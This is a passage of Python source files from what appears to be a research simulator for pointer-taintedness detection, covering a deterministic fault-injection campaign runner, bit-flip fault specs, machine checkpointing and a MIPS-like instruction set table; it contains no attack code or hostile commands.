        self, golden: GoldenRun, trigger: Trigger
    ) -> Optional[int]:
        """Resolve an insn/pc trigger to its exact retirement index.

        Sound because the pre-fire prefix of a trial is deterministic and
        identical to the golden run (same checkpoint, fault not yet
        applied), so the N-th visit of a PC retires at the same index it
        did in the golden run.  Returns:

        * the 1-based retirement index the fault fires *after*;
        * ``golden.instructions + 1`` when the trigger never fires in the
          golden prefix (pc absent, or occurrence beyond its golden
          count) -- the trial then runs to a clean halt uninjected,
          exactly like a never-firing legacy injector;
        * ``None`` when the occurrence is beyond the recorded visit depth
          but within the golden count (explicit schedules only) -- the
          caller falls back to the legacy event injector.
        """
        if trigger.kind == "insn":
            return trigger.value
        visits = self._pc_visit_map
        if visits is None:
            visits = dict(golden.pc_visit_indices)
            self._pc_visit_map = visits
            self._pc_count_map = dict(golden.pc_counts)
        indices = visits.get(trigger.value)
        occurrence = trigger.occurrence
        if indices is None or occurrence > self._pc_count_map.get(
            trigger.value, 0
        ):
            return golden.instructions + 1
        if occurrence <= len(indices):
            return indices[occurrence - 1]
        return None

    def _run_trial(
        self,
        sim: Simulator,
        kernel: Kernel,
        golden: GoldenRun,
        trigger: Trigger,
        spec: FaultSpec,
        checkpoint: Optional[Checkpoint] = None,
    ) -> Tuple[str, str, bool]:
        """One faulted execution; returns (outcome, detail, injected).

        When ``checkpoint`` is given the trial performs its own rollback,
        which lets it fast-forward through the epoch ladder instead of
        re-executing the golden prefix; ``None`` means the caller already
        put the machine in the pre-run state (fresh-rebuild benchmarking).
        """
        injector: Optional[FaultInjector] = None
        fire_at: Optional[int] = None
        fast_fired = False
        if (
            trigger.kind != "syscall"
            and self.config.fast_triggers
            and self.config.engine == "functional"
            and not sim.events.subscribers(InstructionRetired)
            and not sim.events.subscribers(FaultInjected)
        ):
            fire_at = self._fire_index(golden, trigger)
        if checkpoint is not None:
            # Epoch fast-forward is only sound when the prefix skip is
            # unobservable: exact fire index known, the ladder belongs to
            # this machine's checkpoint, and nobody is subscribed to the
            # events the skipped prefix would emit.  Syscall triggers
            # (occurrence counting starts at run start) resolve no
            # fire_at and therefore always roll back to the base.
            if (
                fire_at is not None
                and self._epoch_list
                and checkpoint is self._checkpoint
                and not sim.events.subscribers(SyscallEnter)
                and not sim.events.subscribers(SyscallExit)
                and not sim.events.subscribers(TaintPropagated)
            ):
                self._restore_to_fire_point(sim, kernel, checkpoint, fire_at)
            else:
                checkpoint.restore(sim, kernel)
        if trigger.kind == "syscall":
            kernel.syscall_fault = SyscallFault(
                mode=SYSCALL_FAULT_MODES[spec.kind],
                number=trigger.value,
                occurrence=trigger.occurrence,
            )
        elif fire_at is None:
            injector = FaultInjector(sim, trigger, spec)

        def injected_flag() -> bool:
            if fire_at is not None:
                return fast_fired
            return self._fired(injector, kernel)

        # Relative budget: after an epoch fast-forward the machine already
        # stands at ``stats.instructions > 0``, and the watchdog must trip
        # at the same *absolute* retirement index a from-scratch replay
        # would (timeout classification stays deterministic either way).
        sim.arm_watchdog(
            max_instructions=self._trial_budget(golden)
            - sim.stats.instructions,
            max_seconds=self.config.max_seconds,
        )
        try:
            if fire_at is not None:
                # Fast-trigger path: run the deterministic pre-fire prefix
                # as one fused burst (no retirement subscriber, so the
                # superblock tier stays engaged), pause exactly after the
                # fire_at-th retirement, apply the same state mutation the
                # event injector would, and resume under the still-armed
                # watchdog.  A clean halt before fire_at means the trigger
                # never fires (matches a never-firing legacy injector); a
                # halt exactly *at* fire_at still takes the fault, like
                # the retirement event of a halting instruction does.
                paused = False
                try:
                    # fire_at is an absolute retirement index; trials
                    # start from the pre-run checkpoint (instructions=0),
                    # but stay relative for robustness.
                    exit_status = sim.run(
                        max_instructions=fire_at - sim.stats.instructions
                    )
                except ExecutionLimit as exc:
                    if (
                        exc.reason != "instructions"
                        or sim.stats.instructions != fire_at
                    ):
                        raise
                    paused = True
                if sim.stats.instructions >= fire_at:
                    apply_state_fault(spec, sim)
                    fast_fired = True
                if paused:
                    exit_status = self._run_engine(sim)
            else:
                exit_status = self._run_engine(sim)
        except SecurityException as exc:
            return OUTCOME_DETECTED, f"alert: {exc.alert}", injected_flag()
        except (SimulatorFault, MemoryFault) as exc:
            return (
                OUTCOME_CRASH,
                f"{type(exc).__name__}: {exc}",
                injected_flag(),
            )
        except ExecutionLimit as exc:
            return (
                OUTCOME_TIMEOUT,
                f"watchdog[{exc.reason}] after {exc.instructions} "
                f"instructions",
                injected_flag(),
            )
        finally:
            sim.disarm_watchdog()
            if injector is not None:
                injector.detach()
        injected = injected_flag()
        observable = (exit_status, kernel.process.stdout_text)
        if observable == golden.observable:
            return OUTCOME_MASKED, "output identical to golden", injected
        return (
            OUTCOME_SDC,
            f"exit={exit_status} stdout differs from golden",
            injected,
        )

    @staticmethod
    def _fired(injector: Optional[FaultInjector], kernel: Kernel) -> bool:
        if injector is not None:
            return injector.fired
        fault = kernel.syscall_fault
        return bool(fault is not None and fault.fired)

    def _recover(
        self,
        sim: Simulator,
        kernel: Kernel,
        checkpoint: Checkpoint,
        golden: GoldenRun,
        outcome: str,
        detail: str,
    ) -> Tuple[str, Optional[bool]]:
        """Apply the recovery policy after an abnormal trial ending."""
        policy = self.config.recovery
        if policy == "halt" or outcome not in (
            OUTCOME_DETECTED,
            OUTCOME_CRASH,
            OUTCOME_TIMEOUT,
        ):
            return detail, None
        if policy == "kill-process":
            sim.halt(137)
            return detail + "; process killed (exit 137)", None
        # rollback-retry: restore the pre-fault checkpoint and re-execute
        # without the fault.  The fault is gone by construction (the
        # injector detached, the kernel fault is cleared below), so a
        # matching retry proves the rollback restored clean state.
        kernel.syscall_fault = None
        checkpoint.restore(sim, kernel)
        sim.arm_watchdog(
            max_instructions=self._trial_budget(golden),
            max_seconds=self.config.max_seconds,
        )
        try:
            exit_status = self._run_engine(sim)
        except Exception as exc:
            sim.disarm_watchdog()
            return (
                detail + f"; retry failed ({type(exc).__name__})",
                False,
            )
        sim.disarm_watchdog()
        recovered = (exit_status, kernel.process.stdout_text) == (
            golden.observable
        )
        suffix = (
            "; rollback-retry reproduced golden"
            if recovered
            else "; rollback-retry diverged from golden"
        )
        return detail + suffix, recovered

    # ------------------------------------------------------------------
    # the plan / execute / merge contract
    # ------------------------------------------------------------------

    def prepare(self) -> None:
        """Build the machine, pre-run checkpoint, and golden baseline.

        Idempotent: the first call does the work, later calls are free.
        Every public phase method calls this, so a campaign object can be
        driven piecewise (``build_plan`` in the parent process,
        ``run_trial`` in a pool worker, ``merge`` back in the parent).
        """
        if self._golden is not None:
            return
        self._sim, self._kernel = self._make_machine()
        self._checkpoint = Checkpoint(
            self._sim, self._kernel, cow=self.config.delta_restore
        )
        self._golden = self._golden_run(self._sim, self._kernel)

    @property
    def golden(self) -> GoldenRun:
        """The golden baseline (prepares the campaign on first access)."""
        self.prepare()
        return self._golden

    def build_plan(self) -> List[Tuple[Trigger, FaultSpec]]:
        """Phase 2 as a standalone step: the full seeded trial plan.

        Depends only on the config seed and the golden run -- never on
        trial outcomes -- so the plan built in a campaign's parent
        process is bit-identical to one any worker would build.
        """
        self.prepare()
        return self._build_plan(self._golden, random.Random(self.config.seed))

    def run_trial(
        self, index: int, trigger: Trigger, spec: FaultSpec
    ) -> TrialRecord:
        """Phase 3+4 for one plan entry: rollback, inject, classify,
        recover.  Stateless between calls (every trial starts from the
        pre-run checkpoint), so any subset of plan entries can run in any
        process in any order."""
        self.prepare()
        sim, kernel = self._sim, self._kernel
        outcome, detail, injected = self._run_trial(
            sim, kernel, self._golden, trigger, spec,
            checkpoint=self._checkpoint,
        )
        instructions = sim.stats.instructions
        detail, recovered = self._recover(
            sim, kernel, self._checkpoint, self._golden, outcome, detail
        )
        kernel.syscall_fault = None
        return TrialRecord(
            index=index,
            trigger=trigger.spec(),
            fault=spec.describe(),
            outcome=outcome,
            detail=detail,
            instructions=instructions,
            injected=injected,
            recovered=recovered,
        )

    def merge(self, records: Sequence[TrialRecord]) -> CampaignResult:
        """Assemble trial records (any order) into a campaign result.

        Records are sorted by plan position, which is what makes the
        pool's completion order irrelevant: the digest hashes records in
        index order regardless of which worker finished when.  Raises if
        the records do not cover the plan exactly once each.
        """
        self.prepare()
        ordered = sorted(records, key=lambda r: r.index)
        indices = [r.index for r in ordered]
        if indices != list(range(len(ordered))):
            missing = sorted(set(range(len(ordered))) - set(indices))
            raise ValueError(
                f"trial records do not cover the plan: expected indices "
                f"0..{len(ordered) - 1}, missing {missing[:8]}"
            )
        return CampaignResult(
            workload=self.workload.name,
            config=self.config,
            golden=self._golden,
            records=list(ordered),
        )

    # ------------------------------------------------------------------
    # the campaign
    # ------------------------------------------------------------------

    def run(self) -> CampaignResult:
        workers = self.config.resolved_workers()
        plan = self.build_plan()
        if workers > 1 and len(plan) > 1:
            return self._run_parallel(plan, workers)
        return self._run_serial(plan)

    def _run_serial(self, plan) -> CampaignResult:
        sim, kernel = self._sim, self._kernel
        checkpoint = self._checkpoint
        golden = self._golden
        result = CampaignResult(
            workload=self.workload.name, config=self.config, golden=golden
        )
        trial_subs = sim.events.subscribers(TrialCompleted)
        start = time.perf_counter()
        for index, (trigger, spec) in enumerate(plan):
            if self.config.reuse_snapshots:
                trial_checkpoint = checkpoint
            else:
                # Benchmark mode: pay the full rebuild (re-decode, re-bind,
                # fresh kernel) every trial instead of one rollback.  The
                # fresh machine already stands at the pre-run state, so
                # the trial performs no rollback of its own.
                sim, kernel = self._make_machine()
                checkpoint = Checkpoint(
                    sim, kernel, cow=self.config.delta_restore
                )
                trial_subs = sim.events.subscribers(TrialCompleted)
                trial_checkpoint = None
            outcome, detail, injected = self._run_trial(
                sim, kernel, golden, trigger, spec,
                checkpoint=trial_checkpoint,
            )
            instructions = sim.stats.instructions
            detail, recovered = self._recover(
                sim, kernel, checkpoint, golden, outcome, detail
            )
            kernel.syscall_fault = None
            record = TrialRecord(
                index=index,
                trigger=trigger.spec(),
                fault=spec.describe(),
                outcome=outcome,
                detail=detail,
                instructions=instructions,
                injected=injected,
                recovered=recovered,
            )
            result.records.append(record)
            if trial_subs:
                sim.events.emit(TrialCompleted(index, outcome, detail))
        result.elapsed = time.perf_counter() - start
        return result

    def _run_parallel(self, plan, workers: int) -> CampaignResult:
        if not self.config.reuse_snapshots:
            raise ValueError(
                "parallel campaigns require reuse_snapshots=True (each "
                "worker rolls its chunk back from one local checkpoint)"
            )
        from ..parallel.engine import run_campaign_chunks

        start = time.perf_counter()
        records, pool_stats = run_campaign_chunks(
            self, plan, workers, registry=self.registry
        )
        result = self.merge(records)
        result.elapsed = time.perf_counter() - start
        result.parallel = dict(pool_stats, wall_s=round(result.elapsed, 4))
        # Replay completion events in plan order: subscribers observe the
        # same TrialCompleted sequence a serial campaign emits.
        if self._sim.events.subscribers(TrialCompleted):
            for record in result.records:
                self._sim.events.emit(
                    TrialCompleted(record.index, record.outcome, record.detail)
                )
        return result
