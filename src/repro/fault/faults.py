"""What to inject: fault specs and the event-bus-driven injector.

State faults flip bits in a live :class:`~repro.cpu.machine.MachineState`:

* ``mem``        -- XOR a memory byte with ``mask`` (taint bit preserved);
* ``reg``        -- XOR a register's 32-bit value with ``mask``;
* ``taint-mem``  -- flip the shadow taintedness bit of a memory byte;
* ``taint-reg``  -- XOR a register's 4-bit taint mask with ``mask``.

The taint-shadow kinds are the interesting ones for this paper: a set bit
models a soft error in the taintedness RAM itself (the detector cries wolf
-- a *false* alert, classified ``detected``), a cleared bit models the
detector losing track of attacker data (the trial degrades to whatever an
unprotected machine would do).  Both route through the machine's
:class:`~repro.taint.plane.TaintPlane`, which keeps the provenance
sidecar consistent when the plane runs in label mode.

Syscall-layer kinds (``syscall-errno``, ``syscall-short-read``,
``syscall-truncate``) are not applied here; the campaign arms them inside
the kernel as a :class:`~repro.kernel.syscalls.SyscallFault`.

:class:`FaultInjector` delivers a state fault at a
:class:`~repro.fault.triggers.Trigger` point by subscribing to the
machine's ``InstructionRetired`` stream, corrupting state *after* the
triggering instruction committed, emitting ``FaultInjected``, and
detaching itself (one shot).
"""

from __future__ import annotations

from dataclasses import dataclass

from ..core.events import FaultInjected, InstructionRetired
from .triggers import Trigger

__all__ = [
    "FAULT_KINDS",
    "FaultInjector",
    "FaultSpec",
    "STATE_FAULT_KINDS",
    "SYSCALL_FAULT_KINDS",
    "apply_state_fault",
]

#: Fault kinds applied directly to machine state at a trigger point.
STATE_FAULT_KINDS = ("mem", "reg", "taint-mem", "taint-reg")

#: Fault kinds armed inside the kernel (syscall boundary).
SYSCALL_FAULT_KINDS = (
    "syscall-errno",
    "syscall-short-read",
    "syscall-truncate",
)

FAULT_KINDS = STATE_FAULT_KINDS + SYSCALL_FAULT_KINDS

#: Fault kind -> :class:`~repro.kernel.syscalls.SyscallFault` mode.
SYSCALL_FAULT_MODES = {
    "syscall-errno": "errno",
    "syscall-short-read": "short-read",
    "syscall-truncate": "truncate-input",
}


@dataclass(frozen=True)
class FaultSpec:
    """One fault to inject.

    ``target`` is a byte address (``mem``/``taint-mem``) or a register
    number (``reg``/``taint-reg``); syscall kinds ignore it.  ``mask`` is
    the XOR flip mask: up to 8 bits for a memory byte, 32 for a register
    value, 4 for a register taint mask; ``taint-mem`` treats any non-zero
    mask as "flip the byte's shadow bit".
    """

    kind: str
    target: int = 0
    mask: int = 1

    def __post_init__(self) -> None:
        if self.kind not in FAULT_KINDS:
            raise ValueError(f"unknown fault kind {self.kind!r}")

    def describe(self) -> str:
        if self.kind in ("mem", "taint-mem"):
            return f"{self.kind}@{self.target:#010x}^{self.mask:#x}"
        if self.kind in ("reg", "taint-reg"):
            return f"{self.kind}@r{self.target}^{self.mask:#x}"
        return self.kind

    def __str__(self) -> str:
        return self.describe()


def apply_state_fault(spec: FaultSpec, machine) -> str:
    """Corrupt ``machine`` per ``spec``; returns a human-readable detail.

    Memory flips go through :meth:`~repro.cpu.machine.MachineState.mem_read`
    / ``mem_write`` so they land in the cache hierarchy when one is enabled
    -- exactly where a radiation-induced flip would land on real hardware.
    """
    kind = spec.kind
    if kind == "mem":
        value, taint = machine.mem_read(spec.target, 1)
        flipped = value ^ (spec.mask & 0xFF)
        machine.mem_write(spec.target, 1, flipped, taint)
        return (
            f"mem[{spec.target:#010x}] {value:#04x} -> {flipped:#04x}"
            f" (taint {taint} preserved)"
        )
    if kind == "taint-mem":
        # Plane-routed so label mode stays consistent: a 0->1 flip gets a
        # fault-injection provenance label, a 1->0 flip drops the byte's
        # label.  The value read-back/write-back (and cache placement)
        # matches the pre-plane behavior exactly.
        value, taint, flipped = machine.plane.flip_mem_taint(
            machine, spec.target
        )
        return (
            f"taint[{spec.target:#010x}] {taint} -> {flipped}"
            f" (data {value:#04x} preserved)"
        )
    if kind == "reg":
        if spec.target == 0:
            return "reg r0 is hardwired; flip discarded"
        regs = machine.regs
        value = regs.values[spec.target]
        flipped = (value ^ spec.mask) & 0xFFFFFFFF
        regs.values[spec.target] = flipped
        return f"reg r{spec.target} {value:#010x} -> {flipped:#010x}"
    if kind == "taint-reg":
        if spec.target == 0:
            return "reg r0 is hardwired; taint flip discarded"
        taint, flipped = machine.plane.flip_reg_taint(
            spec.target, spec.mask, machine.stats.instructions
        )
        return f"taint r{spec.target} {taint:#x} -> {flipped:#x}"
    raise ValueError(f"{spec.kind!r} is not a state fault kind")


class FaultInjector:
    """One-shot state-fault delivery at a trigger point.

    Subscribes to the machine's ``InstructionRetired`` events; when the
    trigger condition is met the fault is applied, a ``FaultInjected``
    event is emitted, and the injector unsubscribes itself so the re-run
    after a rollback is fault-free by construction.
    """

    def __init__(self, machine, trigger: Trigger, spec: FaultSpec) -> None:
        if trigger.kind == "syscall":
            raise ValueError(
                "syscall triggers are armed in the kernel, not the injector"
            )
        if spec.kind not in STATE_FAULT_KINDS:
            raise ValueError(f"{spec.kind!r} is not a state fault kind")
        self.machine = machine
        self.trigger = trigger
        self.spec = spec
        self.fired = False
        self.detail = ""
        self._seen = 0
        self._attached = True
        machine.events.subscribe(InstructionRetired, self._on_retired)

    def _on_retired(self, event: InstructionRetired) -> None:
        trigger = self.trigger
        if trigger.kind == "insn":
            if event.index != trigger.value:
                return
        else:  # "pc"
            if event.pc != trigger.value:
                return
            self._seen += 1
            if self._seen < trigger.occurrence:
                return
        machine = self.machine
        self.detail = apply_state_fault(self.spec, machine)
        self.fired = True
        self.detach()
        bus = machine.events
        if bus.subscribers(FaultInjected):
            bus.emit(FaultInjected(event.pc, self.spec.kind, self.detail))

    def detach(self) -> None:
        """Unsubscribe from the event bus (idempotent)."""
        if self._attached:
            self.machine.events.unsubscribe(
                InstructionRetired, self._on_retired
            )
            self._attached = False
