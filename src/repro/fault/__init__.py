"""Fault injection and resilience: campaigns, checkpoints, watchdogs.

This package turns the detector evaluation inside out: instead of replaying
*attacks* against a correct machine, it corrupts a *correct run* -- single-
and multi-bit flips in memory, registers, and the taint bitmap itself, plus
syscall-layer faults -- and asks how the run ends.  Each trial is classified
into the standard fault-injection taxonomy (detected / masked / silent data
corruption / crash / timeout), mirroring how the DSN community evaluates
error-detection mechanisms like the paper's pointer-taintedness detector.

The moving parts:

* :mod:`~repro.fault.triggers` -- *when* to inject: a small trigger grammar
  (``insn:N``, ``pc:0xADDR:K``, ``syscall:NUM:K``) resolved over the
  machine's event bus.
* :mod:`~repro.fault.faults` -- *what* to inject: bit-flip specs for
  memory / registers / their taint shadows, applied to a live
  :class:`~repro.cpu.machine.MachineState`, and the kernel-layer fault
  modes (errno injection, short reads, truncated input).
* :mod:`~repro.fault.checkpoint` -- machine + kernel + RNG checkpointing,
  so one golden run forks into hundreds of trials without rebuilding or
  re-binding the simulator.
* :mod:`~repro.fault.campaign` -- the deterministic, seed-driven campaign
  runner: golden run, upfront fault plan, per-trial rollback, watchdog
  guard, outcome classification, recovery policy.
* :mod:`~repro.fault.workloads` -- built-in victim workloads whose golden
  runs exit cleanly (campaigns need a well-defined correct baseline).
"""

from .campaign import (
    CampaignConfig,
    CampaignResult,
    FaultCampaign,
    GoldenRun,
    OUTCOME_CRASH,
    OUTCOME_DETECTED,
    OUTCOME_MASKED,
    OUTCOME_SDC,
    OUTCOME_TIMEOUT,
    OUTCOMES,
    RECOVERY_POLICIES,
    TrialRecord,
)
from .checkpoint import Checkpoint
from .faults import (
    FAULT_KINDS,
    FaultInjector,
    FaultSpec,
    STATE_FAULT_KINDS,
    SYSCALL_FAULT_KINDS,
    apply_state_fault,
)
from .triggers import Trigger, parse_trigger
from .workloads import BUILTIN_WORKLOADS, Workload, builtin_workload

__all__ = [
    "CampaignConfig",
    "CampaignResult",
    "FaultCampaign",
    "GoldenRun",
    "OUTCOME_CRASH",
    "OUTCOME_DETECTED",
    "OUTCOME_MASKED",
    "OUTCOME_SDC",
    "OUTCOME_TIMEOUT",
    "OUTCOMES",
    "RECOVERY_POLICIES",
    "TrialRecord",
    "Checkpoint",
    "FAULT_KINDS",
    "FaultInjector",
    "FaultSpec",
    "STATE_FAULT_KINDS",
    "SYSCALL_FAULT_KINDS",
    "apply_state_fault",
    "Trigger",
    "parse_trigger",
    "BUILTIN_WORKLOADS",
    "Workload",
    "builtin_workload",
]
