"""Whole-trial checkpointing: machine + kernel + campaign RNG.

A :class:`Checkpoint` bundles the three state domains a fault trial can
touch -- the architectural machine state, the OS-side process state
(:meth:`~repro.kernel.syscalls.Kernel.snapshot`), and optionally a
``random.Random`` stream -- so a campaign captures *one* pre-run
checkpoint and rolls all of it back before every trial.  Restores are
reusable: the same checkpoint restores any number of times.

By default the machine is captured as a *delta* checkpoint
(:meth:`~repro.cpu.machine.MachineState.snapshot_cow`): page-sized state
is tracked copy-on-write and restore rewrites only the pages a trial
dirtied, which is what makes rollback cost proportional to the trial's
footprint instead of the mapped address space.  ``cow=False`` captures
the legacy eager full copy.  A delta checkpoint that gets *displaced*
(a newer checkpoint is captured on the same machine, or a legacy
full-copy restore runs) is completed into a full snapshot at
displacement time and keeps restoring correctly through the legacy
path -- older checkpoints never go stale, they just lose the delta
speedup (see :mod:`repro.mem.cow`).

Shadow-taint state is *not* captured here separately: the machine
snapshot serializes the whole :class:`~repro.taint.plane.TaintPlane`
(taint pages, register masks, and the provenance sidecar in label mode)
exactly once, so checkpoint/rollback works identically in both plane
modes.

The fused superblock cache (:mod:`repro.cpu.superblock`) is derived
entirely from the immutable predecode, so snapshots never capture it
and restores never flush it: blocks fused before a checkpoint keep
replaying across every rollback, and only a text-segment write (SMC)
drops them.
"""

from __future__ import annotations

from typing import Optional

from ..cpu.machine import MachineCowSnapshot

__all__ = ["Checkpoint"]


class Checkpoint:
    """An immutable restore point for one simulated process.

    Args:
        sim: the machine to capture (any
            :class:`~repro.cpu.machine.MachineState`).
        kernel: the attached :class:`~repro.kernel.syscalls.Kernel`
            (omit for bare-metal machines with no syscall handler).
        rng: a ``random.Random`` whose stream position should roll back
            together with the machine.
        cow: capture the machine as a delta (copy-on-write) checkpoint;
            ``False`` forces the legacy eager full copy.
    """

    __slots__ = ("machine", "kernel", "rng_state")

    def __init__(self, sim, kernel=None, rng=None, cow: bool = True) -> None:
        self.machine = sim.snapshot_cow() if cow else sim.snapshot()
        self.kernel = kernel.snapshot() if kernel is not None else None
        self.rng_state = rng.getstate() if rng is not None else None

    def restore(self, sim, kernel=None, rng=None) -> None:
        """Roll every captured domain back (in place; see the machine and
        kernel ``restore`` docstrings for the identity guarantees)."""
        if isinstance(self.machine, MachineCowSnapshot):
            sim.restore_cow(self.machine)
        else:
            sim.restore(self.machine)
        if kernel is not None:
            if self.kernel is None:
                raise ValueError("checkpoint captured no kernel state")
            kernel.restore(self.kernel)
        if rng is not None:
            if self.rng_state is None:
                raise ValueError("checkpoint captured no RNG state")
            rng.setstate(self.rng_state)
