"""Instruction set of the simulated RISC processor.

The ISA is a MIPS-I-like 32-bit load/store RISC, matching the SimpleScalar
PISA machine the paper prototypes on in the properties that matter for
pointer-taintedness detection:

* only loads/stores and ``JR``/``JALR`` can dereference a pointer;
* every ALU instruction falls into one of the Table 1 taint classes
  (default / shift / AND / XOR-zero-idiom / compare).

Each mnemonic is described by an :class:`InstrSpec` carrying its binary
encoding (MIPS-I compatible) and its operand format, and decoded instructions
are :class:`Instr` records pre-classified for the execution engines.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Optional, Tuple

# ---------------------------------------------------------------------------
# Register names
# ---------------------------------------------------------------------------

#: Conventional MIPS register names, index = register number.
REGISTER_NAMES: Tuple[str, ...] = (
    "zero", "at", "v0", "v1", "a0", "a1", "a2", "a3",
    "t0", "t1", "t2", "t3", "t4", "t5", "t6", "t7",
    "s0", "s1", "s2", "s3", "s4", "s5", "s6", "s7",
    "t8", "t9", "k0", "k1", "gp", "sp", "fp", "ra",
)

#: Name -> register number, accepting both ``$sp`` style and ``$29`` style.
REGISTER_NUMBERS: Dict[str, int] = {}
for _i, _name in enumerate(REGISTER_NAMES):
    REGISTER_NUMBERS[_name] = _i
    REGISTER_NUMBERS[str(_i)] = _i
REGISTER_NUMBERS["s8"] = 30  # alternate name for $fp

REG_ZERO = 0
REG_AT = 1
REG_V0 = 2
REG_V1 = 3
REG_A0 = 4
REG_A1 = 5
REG_A2 = 6
REG_A3 = 7
REG_GP = 28
REG_SP = 29
REG_FP = 30
REG_RA = 31


def register_number(token: str) -> int:
    """Parse a register token such as ``$t0``, ``$3`` or ``t0``."""
    name = token[1:] if token.startswith("$") else token
    try:
        return REGISTER_NUMBERS[name.lower()]
    except KeyError:
        raise ValueError(f"unknown register {token!r}") from None


def register_name(number: int) -> str:
    """Conventional ``$name`` for a register number."""
    return f"${REGISTER_NAMES[number]}"


# ---------------------------------------------------------------------------
# Instruction formats and classes
# ---------------------------------------------------------------------------

# Operand formats (how the assembler parses and the encoder packs operands).
FMT_R3 = "r3"          # op rd, rs, rt
FMT_SHIFT = "shift"    # op rd, rt, shamt
FMT_SHIFTV = "shiftv"  # op rd, rt, rs  (variable shift)
FMT_MULDIV = "muldiv"  # op rs, rt     (result in HI/LO)
FMT_MOVEHL = "movehl"  # op rd         (mfhi / mflo)
FMT_JR = "jr"          # op rs
FMT_JALR = "jalr"      # op rd, rs  (rd optional, defaults to $ra)
FMT_I2 = "i2"          # op rt, rs, imm16
FMT_LUI = "lui"        # op rt, imm16
FMT_MEM = "mem"        # op rt, offset(rs)
FMT_BR2 = "br2"        # op rs, rt, label
FMT_BR1 = "br1"        # op rs, label
FMT_J = "j"            # op label
FMT_NONE = "none"      # syscall / break / nop

# Semantic classes used by the execution engines and the taint logic.
CLASS_ALU = "alu"          # default Table 1 rule
CLASS_SHIFT = "shift"      # shift rule
CLASS_AND = "and"          # AND rule
CLASS_COMPARE = "compare"  # compare rule (SLT family)
CLASS_LOAD = "load"
CLASS_STORE = "store"
CLASS_BRANCH = "branch"    # compare rule applies to operands
CLASS_JUMP = "jump"        # J / JAL (immediate target, never tainted)
CLASS_JUMP_REG = "jumpreg"  # JR / JALR (register target: detection point)
CLASS_SYSTEM = "system"


@dataclass(frozen=True)
class InstrSpec:
    """Static description of one mnemonic."""

    name: str
    fmt: str
    klass: str
    opcode: int
    funct: Optional[int] = None  # R-type function code
    regimm: Optional[int] = None  # rt field for opcode-1 branches


def _specs() -> Dict[str, InstrSpec]:
    table = [
        # name        fmt         class           opcode  funct
        InstrSpec("sll", FMT_SHIFT, CLASS_SHIFT, 0, 0),
        InstrSpec("srl", FMT_SHIFT, CLASS_SHIFT, 0, 2),
        InstrSpec("sra", FMT_SHIFT, CLASS_SHIFT, 0, 3),
        InstrSpec("sllv", FMT_SHIFTV, CLASS_SHIFT, 0, 4),
        InstrSpec("srlv", FMT_SHIFTV, CLASS_SHIFT, 0, 6),
        InstrSpec("srav", FMT_SHIFTV, CLASS_SHIFT, 0, 7),
        InstrSpec("jr", FMT_JR, CLASS_JUMP_REG, 0, 8),
        InstrSpec("jalr", FMT_JALR, CLASS_JUMP_REG, 0, 9),
        InstrSpec("syscall", FMT_NONE, CLASS_SYSTEM, 0, 12),
        InstrSpec("break", FMT_NONE, CLASS_SYSTEM, 0, 13),
        InstrSpec("mfhi", FMT_MOVEHL, CLASS_ALU, 0, 16),
        InstrSpec("mflo", FMT_MOVEHL, CLASS_ALU, 0, 18),
        InstrSpec("mult", FMT_MULDIV, CLASS_ALU, 0, 24),
        InstrSpec("multu", FMT_MULDIV, CLASS_ALU, 0, 25),
        InstrSpec("div", FMT_MULDIV, CLASS_ALU, 0, 26),
        InstrSpec("divu", FMT_MULDIV, CLASS_ALU, 0, 27),
        InstrSpec("add", FMT_R3, CLASS_ALU, 0, 32),
        InstrSpec("addu", FMT_R3, CLASS_ALU, 0, 33),
        InstrSpec("sub", FMT_R3, CLASS_ALU, 0, 34),
        InstrSpec("subu", FMT_R3, CLASS_ALU, 0, 35),
        InstrSpec("and", FMT_R3, CLASS_AND, 0, 36),
        InstrSpec("or", FMT_R3, CLASS_ALU, 0, 37),
        InstrSpec("xor", FMT_R3, CLASS_ALU, 0, 38),
        InstrSpec("nor", FMT_R3, CLASS_ALU, 0, 39),
        InstrSpec("slt", FMT_R3, CLASS_COMPARE, 0, 42),
        InstrSpec("sltu", FMT_R3, CLASS_COMPARE, 0, 43),
        # regimm branches
        InstrSpec("bltz", FMT_BR1, CLASS_BRANCH, 1, regimm=0),
        InstrSpec("bgez", FMT_BR1, CLASS_BRANCH, 1, regimm=1),
        # jumps
        InstrSpec("j", FMT_J, CLASS_JUMP, 2),
        InstrSpec("jal", FMT_J, CLASS_JUMP, 3),
        # I-type
        InstrSpec("beq", FMT_BR2, CLASS_BRANCH, 4),
        InstrSpec("bne", FMT_BR2, CLASS_BRANCH, 5),
        InstrSpec("blez", FMT_BR1, CLASS_BRANCH, 6),
        InstrSpec("bgtz", FMT_BR1, CLASS_BRANCH, 7),
        InstrSpec("addi", FMT_I2, CLASS_ALU, 8),
        InstrSpec("addiu", FMT_I2, CLASS_ALU, 9),
        InstrSpec("slti", FMT_I2, CLASS_COMPARE, 10),
        InstrSpec("sltiu", FMT_I2, CLASS_COMPARE, 11),
        InstrSpec("andi", FMT_I2, CLASS_AND, 12),
        InstrSpec("ori", FMT_I2, CLASS_ALU, 13),
        InstrSpec("xori", FMT_I2, CLASS_ALU, 14),
        InstrSpec("lui", FMT_LUI, CLASS_ALU, 15),
        # loads / stores
        InstrSpec("lb", FMT_MEM, CLASS_LOAD, 32),
        InstrSpec("lh", FMT_MEM, CLASS_LOAD, 33),
        InstrSpec("lw", FMT_MEM, CLASS_LOAD, 35),
        InstrSpec("lbu", FMT_MEM, CLASS_LOAD, 36),
        InstrSpec("lhu", FMT_MEM, CLASS_LOAD, 37),
        InstrSpec("sb", FMT_MEM, CLASS_STORE, 40),
        InstrSpec("sh", FMT_MEM, CLASS_STORE, 41),
        InstrSpec("sw", FMT_MEM, CLASS_STORE, 43),
    ]
    return {spec.name: spec for spec in table}


#: Mnemonic -> :class:`InstrSpec` for every real (non-pseudo) instruction.
SPECS: Dict[str, InstrSpec] = _specs()

#: Load mnemonics -> (access size in bytes, sign-extend?)
LOAD_INFO: Dict[str, Tuple[int, bool]] = {
    "lb": (1, True),
    "lbu": (1, False),
    "lh": (2, True),
    "lhu": (2, False),
    "lw": (4, False),
}

#: Store mnemonics -> access size in bytes.
STORE_INFO: Dict[str, int] = {"sb": 1, "sh": 2, "sw": 4}


@dataclass
class Instr:
    """One decoded instruction.

    Fields are populated according to the format; unused fields are zero.
    ``imm`` is already sign-extended for arithmetic/branch/memory forms and
    zero-extended for the logical immediates (ANDI/ORI/XORI).
    """

    name: str
    klass: str
    rd: int = 0
    rs: int = 0
    rt: int = 0
    shamt: int = 0
    imm: int = 0
    target: int = 0  # absolute byte address for J/JAL
    text: str = ""   # disassembly, filled by the assembler/decoder

    @property
